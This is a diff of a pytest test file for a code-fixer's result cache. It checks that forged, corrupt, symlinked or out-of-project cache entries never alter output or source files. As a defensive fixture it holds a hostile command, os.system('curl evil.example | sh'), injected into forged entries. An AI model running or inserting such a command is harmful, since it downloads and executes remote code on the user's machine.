@@ -1,12 +1,16 @@
 """The result cache: hits skip the engine and give the same results, anything that could change a
-result misses, and entries that are corrupt, truncated or foreign are ignored."""
+result misses, entries that are corrupt, truncated or foreign are ignored, and nothing shown or
+written comes from it: a file with a fix is checked again on every run."""
 
 from __future__ import annotations
 
 import base64
 import hashlib
+import os
 import json
 import shutil
+import subprocess
+import sys
 from dataclasses import fields, replace
 from pathlib import Path
 
@@ -27,6 +31,7 @@ from jaxfix.runner import run_files
 from toy_rules import toy_rules  # noqa: F401 - a pytest fixture
 
 VIOLATION = b"from lib import old_api\n\nold_api()\nrisky()\n"
+REPORTED = b"risky()\n"  # an unsafe fix, not applied by default: diagnostics, no fixed code
 
 
 def toy_options(*args: str) -> Options:
@@ -53,13 +58,15 @@ def tree(tmp_path, toy_rules):  # noqa: F811 - pytest fixture injection
     (tmp_path / "src").mkdir()
     (tmp_path / "src" / "bad.py").write_bytes(VIOLATION)
     (tmp_path / "src" / "clean.py").write_bytes(b"import os\n")
+    (tmp_path / "src" / "reported.py").write_bytes(REPORTED)
     return tmp_path
 
 
 def run(tree: Path, options: Options | None = None, *, write: bool = False, cache: bool = True, jobs: int = 1):
     options = options or toy_options()
     files = sorted((tree / "src").glob("*.py"))
-    return run_files(files, options, write=write, jobs=jobs, cache=Cache(tree / "cache", options) if cache else None)
+    results = run_files(files, options, write=write, jobs=jobs, cache=Cache(tree / "cache", options) if cache else None)
+    return {r.path.name: r for r in results}
 
 
 def entries(tree: Path) -> list[Path]:
@@ -69,11 +76,12 @@ def entries(tree: Path) -> list[Path]:
 def test_second_run_is_a_hit_with_identical_results(tree, engine_calls):
     uncached = run(tree, cache=False)
     first = run(tree)
-    assert engine_calls == [tree / "src" / "bad.py"] * 2  # the file without tokens is never parsed
+    src = tree / "src"
+    assert engine_calls == [src / "bad.py", src / "reported.py"] * 2  # the file without tokens is never parsed
     second = run(tree)
-    assert len(engine_calls) == 2
+    assert engine_calls[4:] == [src / "bad.py"]  # its fix is derived again; the other is a hit
     assert first == second == uncached
-    assert second[0].fixed is not None and second[0].diagnostics
+    assert second["bad.py"].fixed is not None and second["reported.py"].diagnostics and second["reported.py"].fixed is None
 
 
 def test_every_fixture_round_trips_through_the_cache(tmp_path, engine_calls):
@@ -89,17 +97,17 @@ def test_every_fixture_round_trips_through_the_cache(tmp_path, engine_calls):
     for args, files in by_args.items():
         options = options_from_args(list(args))
         fresh = run_files(files, options, write=False, jobs=2, cache=Cache(tmp_path / "cache", options))  # misses
-        calls = len(engine_calls)  # counted only in this process: the hits below run here (jobs=1)
+        calls = len(engine_calls)  # counted only in this process: the warm run below runs here (jobs=1)
         assert run_files(files, options, write=False, jobs=1, cache=Cache(tmp_path / "cache", options)) == fresh
-        assert len(engine_calls) == calls
+        assert engine_calls[calls:] == [r.path for r in fresh if r.fixed is not None]  # only files with a fix run again
 
 
 def test_changed_content_misses(tree, engine_calls):
     run(tree)
-    (tree / "src" / "bad.py").write_bytes(VIOLATION + b"risky()\n")
-    result = run(tree)[0]
-    assert len(engine_calls) == 2
-    assert [d.code for d in result.diagnostics] == ["JAX901", "JAX903", "JAX903"]
+    (tree / "src" / "reported.py").write_bytes(REPORTED + b"risky()\n")
+    result = run(tree)["reported.py"]
+    assert engine_calls[2:] == [tree / "src" / "bad.py", tree / "src" / "reported.py"]
+    assert [d.code for d in result.diagnostics] == ["JAX903", "JAX903"]
 
 
 def _changed(value):
@@ -126,19 +134,20 @@ def test_every_option_that_can_change_a_result_is_in_the_key():
         assert changes_key == (field.name not in cache_module._OPTIONS_NOT_IN_KEY), field.name
 
 
-@pytest.mark.parametrize("args", [["--unsafe-fixes"], ["--jax-version", "0.9.0"], ["--ignore", "JAX903"]])
+@pytest.mark.parametrize("args", [["--unsafe-fixes"], ["--jax-version", "0.9.0"], ["--ignore", "JAX901"]])
 def test_different_options_miss(tree, engine_calls, args):
     run(tree)
     run(tree, toy_options(*args))
-    assert len(engine_calls) == 2
-    assert len(entries(tree)) == 1  # the new result replaced the old one: one entry per file
+    assert len(engine_calls) == 4
+    # One entry per file, the new result replacing the old: reported.py's, and bad.py's once nothing fixes it.
+    assert len(entries(tree)) == (2 if args == ["--ignore", "JAX901"] else 1)
 
 
 def test_other_jaxfix_version_misses(tree, engine_calls, monkeypatch):
     run(tree)
     monkeypatch.setattr(jaxfix, "__version__", "99.0.0")
     run(tree)
-    assert len(engine_calls) == 2
+    assert len(engine_calls) == 4
 
 
 def test_editing_jaxfix_source_changes_the_key(tmp_path, monkeypatch):
@@ -151,18 +160,19 @@ def test_editing_jaxfix_source_changes_the_key(tmp_path, monkeypatch):
     assert cache_module.settings_fingerprint(Options(), ("JAX001",)) != before
 
 
-def test_a_cached_would_change_result_is_rederived_before_it_is_written(tree, engine_calls):
-    checked = run(tree)[0]
+def test_a_result_with_a_fix_is_never_stored_and_is_derived_again(tree, engine_calls):
+    checked = run(tree)["bad.py"]
     assert checked.fixed is not None and not checked.written
-    fixed = run(tree, write=True)[0]
-    assert len(engine_calls) == 2  # never written from the cache: parsed again
+    assert len(entries(tree)) == 1  # reported.py's only
+    fixed = run(tree, write=True)["bad.py"]
+    assert engine_calls.count(tree / "src" / "bad.py") == 2
     assert fixed.written and (tree / "src" / "bad.py").read_bytes() == checked.fixed
-    after = run(tree)[0]  # new content: parsed again, and what is left is what the fix left
-    assert len(engine_calls) == 3
+    after = run(tree)["bad.py"]  # new content: what is left is what the fix left, now cached
     assert after.fixed is None and [d.code for d in after.diagnostics] == ["JAX903"]
+    assert len(entries(tree)) == 2
 
 
-def _entry_for_bad(tree: Path) -> Path:
+def _entry_for_reported(tree: Path) -> Path:
     (entry,) = entries(tree)
     return entry
 
@@ -188,7 +198,9 @@ CORRUPTIONS = {
     "bad location": lambda e: _rewrite_body(e, lambda d: {**d, "diagnostics": [{**d["diagnostics"][0], "start": [0, "x"]}]}),
     "bad safety": lambda e: _rewrite_body(e, lambda d: {**d, "diagnostics": [{**d["diagnostics"][0], "fix_safety": "maybe"}]}),
     "missing key": lambda e: _rewrite_body(e, lambda d: {k: v for k, v in d.items() if k != "diagnostics"}),
-    "not base64": lambda e: _rewrite_body(e, lambda d: {**d, "fixed": "!!!"}),
+    "a fixed field": lambda e: _rewrite_body(e, lambda d: {**d, "fixed": base64.b64encode(b"careful()\n").decode()}),
+    "a fix applied": lambda e: _rewrite_body(e, lambda d: {**d, "diagnostics": [{**d["diagnostics"][0], "applied": True}]}),
+    "an older format's magic": lambda e: e.write_bytes(b"jaxfix-cache 2" + e.read_bytes()[len(b"jaxfix-cache 3"):]),
     "a list, not an object": lambda e: _rewrite_body(e, lambda d: [d]),
     "wrong shape": lambda e: _rewrite_body(e, lambda d: {**d, "diagnostics": [[[[[[[[[[[[]]]]]]]]]]]]}),
     "a directory": lambda e: (e.unlink(), e.mkdir()),
@@ -198,19 +210,11 @@ CORRUPTIONS = {
 @pytest.mark.parametrize("corrupt", CORRUPTIONS.values(), ids=CORRUPTIONS.keys())
 def test_bad_entries_are_ignored_and_replaced(tree, engine_calls, corrupt):
     good = run(tree)
-    entry = _entry_for_bad(tree)
+    entry = _entry_for_reported(tree)
     corrupt(entry)
-    source = (tree / "src" / "bad.py").read_bytes()
-    assert Cache(tree / "cache", toy_options()).get(tree / "src" / "bad.py", source) is None
+    assert Cache(tree / "cache", toy_options()).get(tree / "src" / "reported.py", REPORTED) is None
     assert run(tree) == good
-    assert len(engine_calls) == 2
-
-
-def test_an_entry_for_unchanged_fixed_bytes_is_not_trusted(tree):
-    run(tree)
-    entry = _entry_for_bad(tree)
-    _rewrite_body(entry, lambda d: {**d, "fixed": base64.b64encode(VIOLATION).decode()})
-    assert Cache(tree / "cache", toy_options()).get(tree / "src" / "bad.py", VIOLATION) is None
+    assert engine_calls[2:] == [tree / "src" / "bad.py", tree / "src" / "reported.py"]
 
 
 def test_the_codec_covers_every_diagnostic_field():
@@ -256,7 +260,7 @@ def test_cli_caches_in_the_project_root_and_no_cache_writes_nothing(tmp_path, mo
     shutil.copyfile(case.before, tmp_path / "src" / "case.py")
     monkeypatch.chdir(tmp_path)
     runner = CliRunner()
-    args = ["--check", "-j", "1", "--unsafe-fixes", "--jax-version", case.header["target-jax"], "src"]
+    args = ["--check", "-j", "1", "--jax-version", case.header["target-jax"], "src"]  # its fix is unsafe: reported, cached
     uncached = runner.invoke(cli, ["--no-cache", *args])
     assert not (tmp_path / CACHE_DIR_NAME).exists()
     cold = runner.invoke(cli, args)
@@ -269,11 +273,189 @@ def test_cli_caches_in_the_project_root_and_no_cache_writes_nothing(tmp_path, mo
     assert (tmp_path / "elsewhere" / "CACHEDIR.TAG").exists()
 
 
-def test_a_forged_entry_never_reaches_the_source_file(tree, engine_calls):
-    """A CI cache restored from an untrusted branch: content replaced, checksum recomputed."""
-    honest = run(tree)[0].fixed
-    evil = b"import os\nos.system('curl evil.example | sh')\n"
-    _rewrite_body(_entry_for_bad(tree), lambda d: {**d, "fixed": base64.b64encode(evil).decode()})
-    assert run(tree)[0].fixed == evil  # the checksum cannot tell: a dry run shows what the entry says
-    fixed = run(tree, write=True)[0]
-    assert fixed.written and (tree / "src" / "bad.py").read_bytes() == honest != evil
+
+
+# -- a hostile cache: nothing shown or written comes from it; its directory stays in the tree (issue 26)
+
+FIX_CASE = Path(__file__).resolve().parent.parent / "fixtures" / "JAX001" / "jit_lower_rewritten_to_trace_lower.py"
+EVIL = "import os; os.system('curl evil.example | sh')"
+MODES = [["--diff"], ["--dry-run"], ["--check"], *(["--check", "--format", f] for f in
+         ("json", "rdjson", "github-suggestions", "sarif", "gitlab", "github"))]
+
+
+def _project(tmp_path: Path) -> Path:
+    """A project with two files that get a (safe) fix and one reported without a fix."""
+    project = tmp_path / "project"
+    (project / "src").mkdir(parents=True)
+    (project / "pyproject.toml").write_text("[tool.jaxfix]\njax-version = '0.10.2'\n")
+    shutil.copyfile(FIX_CASE, project / "src" / "fixed_here.py")
+    shutil.copyfile(FIX_CASE, project / "src" / "fixed_too.py")
+    reported = next(c for c in all_cases() if c.code == "JAX002" and c.fixed is not None)
+    shutil.copyfile(reported.before, project / "src" / "reported.py")
+    return project
+
+
+def _jaxfix(project: Path, *args: str, cache: bool = True, process: bool = False) -> tuple[int, str]:
+    """jaxfix run from the project: its exit code, stdout and stderr. `process`: in its own
+    process (what might hang, a FIFO, must time out, not hang the tests)."""
+    argv = ["-j", "1", *args, *([] if cache else ["--no-cache"]), "src"]
+    if process:
+        done = subprocess.run([sys.executable, "-m", "jaxfix", *argv], cwd=project, capture_output=True, timeout=120,
+                              env={**os.environ, "PYTHONPATH": str(Path(jaxfix.__file__).parent.parent)})
+        return done.returncode, done.stdout.decode(errors="replace") + done.stderr.decode(errors="replace")
+    old = Path.cwd()
+    os.chdir(project)
+    try:
+        result = CliRunner().invoke(cli, argv, catch_exceptions=False)
+    finally:
+        os.chdir(old)
+    return result.exit_code, result.stdout + result.stderr
+
+
+def _forge(project: Path, name: str, change) -> Path:
+    """An entry for src/`name`, made from the honest entry of src/reported.py (its settings are
+    this run's), changed by `change`, checksum recomputed: what a pull request can commit."""
+    directory = project / CACHE_DIR_NAME
+    magic, _, body = _entry_path(project, "reported.py").read_bytes().split(b"\n", 2)
+    path = os.path.abspath(project / "src" / name)
+    source = (project / "src" / name).read_bytes()
+    entry = change({**json.loads(body), "path": path, "source": hashlib.sha256(source).hexdigest()}, source)
+    body = json.dumps(entry).encode()
+    target = directory / hashlib.sha256(os.fsencode(path)).hexdigest()[:40]
+    target.write_bytes(magic + b"\n" + hashlib.sha256(body).hexdigest().encode() + b"\n" + body)
+    return target
+
+
+FORGERIES = {  # one per file with a fix
+    # the old format's field: the fixed file, base64
+    "fixed field": lambda d, source: {**d, "fixed": base64.b64encode(source.replace(b"import jax\n", f"{EVIL}\nimport jax\n".encode(), 1)).decode()},
+    # a diagnostic said applied, its title and lines pointing at code the entry does not hold
+    "applied fix": lambda d, source: {**d, "diagnostics": [{
+        **d["diagnostics"][0], "code": "JAX001", "applied": True, "fix_title": EVIL, "fix_safety": "safe", "fix_lines": [1, 1]}]},
+}
+
+
+def test_a_forged_entry_with_a_recomputed_checksum_reaches_no_output(tmp_path):
+    project = _project(tmp_path)
+    honest = {tuple(mode): _jaxfix(project, *mode, cache=False) for mode in MODES}
+    assert _jaxfix(project, "--check")[0] == 1  # writes reported.py's entry
+    for name, forgery in zip(("fixed_here.py", "fixed_too.py"), FORGERIES.values()):
+        _forge(project, name, forgery)
+    for mode in MODES:
+        code, output = _jaxfix(project, *mode)
+        assert EVIL not in output and "curl" not in output, mode
+        assert (code, output) == honest[tuple(mode)], mode
+    assert _jaxfix(project)[0] in (0, 1)  # fix in place
+    for name in ("fixed_here.py", "fixed_too.py"):
+        assert (project / "src" / name).read_bytes() == FIX_CASE.with_name(FIX_CASE.stem + ".fixed.py").read_bytes()
+
+
+def test_a_forged_entry_can_at_worst_hide_or_invent_a_diagnostic(tmp_path):
+    """What the trust model concedes (docs/guarantees.md): an entry claiming the reported file
+    clean hides its diagnostic; one inventing a diagnostic shows it, and changes no code."""
+    project = _project(tmp_path)
+    _jaxfix(project, "--check")
+    entry = next(p for p in (project / CACHE_DIR_NAME).iterdir() if not p.name.startswith((".", "CACHEDIR")))
+    _rewrite_body(entry, lambda d: {**d, "diagnostics": []})
+    assert "reported.py" not in _jaxfix(project, "--check")[1]
+    before = (project / "src" / "reported.py").read_bytes()
+    _rewrite_body(entry, lambda d: {**d, "diagnostics": [{**d["diagnostics"][0], "message": "invented"}] if d["diagnostics"] else [{
+        "code": "JAX002", "message": "invented", "start": [1, 1], "end": [1, 2], "fix_title": None, "fix_safety": None,
+        "applied": False, "related": [], "fix_lines": None, "fix_cell": None}]})
+    assert "invented" in _jaxfix(project, "--dry-run")[1]
+    assert (project / "src" / "reported.py").read_bytes() == before
+
+
+def _outside(tmp_path: Path) -> Path:
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    return elsewhere
+
+
+def test_a_committed_cache_symlink_to_elsewhere_writes_nothing_outside(tmp_path):
+    project, elsewhere = _project(tmp_path), _outside(tmp_path)
+    (project / CACHE_DIR_NAME).symlink_to("../elsewhere")
+    code, output = _jaxfix(project, "--check")
+    assert code == 1
+    warnings = [line for line in output.splitlines() if line.startswith("warning:")]
+    assert warnings == [f"warning: cache directory {project / CACHE_DIR_NAME}: {project / CACHE_DIR_NAME} is a symbolic link; "
+                        "running without the cache"], output
+    assert list(elsewhere.iterdir()) == []
+    assert (code, output.replace(warnings[0] + "\n", "")) == _jaxfix(project, "--check", cache=False)
+
+
+def test_a_symlinked_directory_on_the_way_to_cache_dir_is_refused(tmp_path):
+    project, elsewhere = _project(tmp_path), _outside(tmp_path)
+    (project / "build").symlink_to(elsewhere)
+    with open(project / "pyproject.toml", "a") as config:
+        config.write("cache-dir = 'build/jaxfix'\n")
+    code, output = _jaxfix(project, "--check")
+    assert code == 1 and f"{project / 'build'} is a symbolic link; running without the cache" in output
+    assert list(elsewhere.iterdir()) == []
+
+
+@pytest.mark.parametrize("value", ["/abs/jaxfix-cache", "../outside", "src/../../outside"])
+def test_cache_dir_from_a_pyproject_may_not_point_outside_the_project(tmp_path, value):
+    project = _project(tmp_path)
+    with open(project / "pyproject.toml", "a") as config:
+        config.write(f"cache-dir = {value!r}\n")
+    code, output = _jaxfix(project, "--check")
+    assert code == 1
+    assert f"warning: {project / 'pyproject.toml'}: cache-dir {value!r} points outside the project ({project}); running without the cache" in output
+    assert not (tmp_path / "outside").exists() and sorted(p.name for p in tmp_path.iterdir()) == ["project"]
+
+
+def test_cache_dir_inside_the_project_and_the_flag_anywhere_are_used(tmp_path):
+    project = _project(tmp_path)
+    with open(project / "pyproject.toml", "a") as config:
+        config.write("cache-dir = 'src/../.cache/jaxfix'\n")
+    assert _jaxfix(project, "--check")[0] == 1
+    assert (project / ".cache" / "jaxfix" / "CACHEDIR.TAG").exists()
+    assert _jaxfix(project, "--check", "--cache-dir", str(tmp_path / "mine"))[0] == 1  # the user's own choice
+    assert (tmp_path / "mine" / "CACHEDIR.TAG").exists()
+
+
+def _entry_path(project: Path, name: str) -> Path:
+    return project / CACHE_DIR_NAME / hashlib.sha256(os.fsencode(os.path.abspath(project / "src" / name))).hexdigest()[:40]
+
+
+@pytest.mark.parametrize("kind", ["fifo", "symlink to /dev/zero", "symlink to a good entry elsewhere", "directory"])
+def test_an_entry_that_is_not_a_regular_file_is_a_miss_never_a_hang(tmp_path, kind):
+    project = _project(tmp_path)
+    honest = _jaxfix(project, "--check", cache=False)
+    (project / CACHE_DIR_NAME).mkdir()
+    entry = _entry_path(project, "reported.py")
+    if kind == "fifo":
+        os.mkfifo(entry)
+    elif kind == "directory":
+        entry.mkdir()
+    elif kind == "symlink to /dev/zero":
+        entry.symlink_to("/dev/zero")
+    else:
+        _jaxfix(project, "--check")
+        entry.rename(tmp_path / "good")
+        _rewrite_body(tmp_path / "good", lambda d: {**d, "diagnostics": [{**d["diagnostics"][0], "message": "forged"}]})
+        entry.symlink_to(tmp_path / "good")
+    code, output = _jaxfix(project, "--check", process=kind in ("fifo", "symlink to /dev/zero"))  # these might hang
+    assert (code, output) == honest
+
+
+def test_a_file_name_that_is_not_utf8_works_in_every_format_with_the_cache(tmp_path):
+    project = _project(tmp_path)
+    src = os.fsencode(project / "src")
+    os.rename(os.fsencode(project / "src" / "fixed_here.py"), src + b"/bad\xff.py")
+    os.rename(os.fsencode(project / "src" / "reported.py"), src + b"/rep\xfe.py")
+    (project / "src" / "fixed_too.py").unlink()
+    for mode in MODES:
+        shutil.rmtree(project / CACHE_DIR_NAME, ignore_errors=True)
+        cold, warm = _jaxfix(project, *mode), _jaxfix(project, *mode)
+        assert cold == warm, mode
+        assert cold[0] == 1 and "Traceback" not in cold[1], (mode, cold[1][-2000:])
+    shutil.rmtree(project / CACHE_DIR_NAME)
+    cold, warm = _jaxfix(project, "--check", process=True), _jaxfix(project, "--check", process=True)  # as the CLI prints it
+    assert cold == warm and cold[0] == 1 and "Traceback" not in cold[1], cold[1][-2000:]
+    assert len(entries_in(project)) == 1  # rep\xfe.py's: bad\xff.py's result has a fix
+
+
+def entries_in(project: Path) -> list[Path]:
+    return [p for p in (project / CACHE_DIR_NAME).iterdir() if not p.name.startswith((".", "CACHEDIR"))]
